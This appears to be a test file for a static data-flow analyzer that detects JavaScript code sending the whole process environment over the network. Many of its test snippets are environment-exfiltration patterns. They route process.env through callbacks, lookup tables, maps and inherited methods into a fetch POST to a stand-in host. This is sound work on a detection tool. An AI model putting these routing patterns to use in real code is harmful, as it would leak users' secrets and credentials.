import { expect, test } from 'vitest';
import { analyzeJs } from './facts.ts';
import { LABEL } from './labels.ts';

/** Whether the file sends its whole environment, whenever. */
function sends(source: string): boolean {
  const { flows } = analyzeJs(source).flow;
  return flows.some(({ sink, labels }) => sink === 'network' && (labels & LABEL.envAll) !== 0);
}

const SEND = "fetch('https://a.test', { method: 'POST', body: x })";

test.each([
  ['a parameter', `function read(done) { done(process.env); }\nread((x) => ${SEND});`],
  ['a table', `const to = { a: (x) => ${SEND} };\nto[process.argv[2]](process.env);`],
  [
    'a table of a class',
    `class A { constructor() { this.to = { a: (x) => ${SEND} }; } run(k) { this.to[k](process.env); } }\nnew A().run('a');`,
  ],
  [
    'a function picked first',
    `const to = [(x) => ${SEND}];\nconst one = to[Date.now() % 1];\none(process.env);`,
  ],
  ['a map', `const to = new Map([['a', (x) => ${SEND}]]);\nto.get(process.argv[2])(process.env);`],
  [
    'a map that is gone through',
    `const to = new Map([['a', (x) => ${SEND}]]);\nfor (const [, f] of to) f(process.env);`,
  ],
  ['one of two', `const f = (x) => ${SEND};\n(globalThis.none ?? f)(process.env);`],
])('a function that is called by %s takes what it is given', (_, source) => {
  expect(sends(source)).toBe(true);
});

test.each([
  ['of another name', `const to = { a: (x) => ${SEND}, b() {} };\nto.b(process.env);`],
  ['that nothing calls', `const to = { a: (x) => ${SEND} };\nto.a;\nconsole.log(process.env);`],
  [
    'that is given something else',
    `function read(done) { done(1); }\nread((x) => ${SEND});\nString(process.env);`,
  ],
])('a function %s does not', (_, source) => {
  expect(sends(source)).toBe(false);
});

test('tables of tables cost what one call may cost', () => {
  let table = '[]';
  for (let depth = 0; depth < 4; depth++) table = `[${Array.from({ length: 16 }, () => table).join()}]`;
  const source = `const t = ${table};\n${'t[i]();'.repeat(2_000)}fetch('https://a.test');`;
  const startedMs = performance.now();
  analyzeJs(source);
  expect(performance.now() - startedMs).toBeLessThan(5_000);
});

const SENDER = `class Base { push(x) { this.send(x); } send() {} }\nclass Sender extends Base { send(x) { ${SEND}; } }\n`;

test.each([
  ['that is inherited, and calls one that is put in its place', `${SENDER}new Sender().push(process.env);`],
  ['of what a function is given', `${SENDER}function go(to) { to.push(process.env); }\ngo(new Sender());`],
  [
    'of a parameter that is handed on',
    `${SENDER}function go(to) { to.push(process.env); }\nfunction first(to) { go(to); }\nconst one = new Sender();\nfirst(one);`,
  ],
  [
    'of what a class keeps',
    `${SENDER}class Job { constructor() { this.to = new Sender(); } run() { this.to.push(process.env); } }\nnew Job().run();`,
  ],
])('a method takes what it is given: one %s', (_, source) => {
  expect(sends(source)).toBe(true);
});

test.each([
  [
    'of a class that is extended, where its own has another in its place',
    `${SENDER}new Base().send(process.env);`,
  ],
  [
    'of a class that does not extend it',
    `${SENDER}class Other { push(x) { this.send(x); } send() {} }\nnew Other().push(process.env);`,
  ],
])('a method does not take what is given to one %s', (_, source) => {
  expect(sends(source)).toBe(false);
});

test('a class is made with what the one that it extends is made with', () => {
  const source = `class Base { constructor(x) { ${SEND}; } }\nclass Own extends Base { constructor(x) { super(x); } }\n`;
  expect(sends(`${source}new Own(process.env);`)).toBe(true);
  expect(sends(`${source.replace('constructor(x) { super(x); }', '')}new Own(process.env);`)).toBe(true);
  expect(sends(`${source.replace('super(x)', 'super(1)')}new Own(process.env);`)).toBe(false);
});
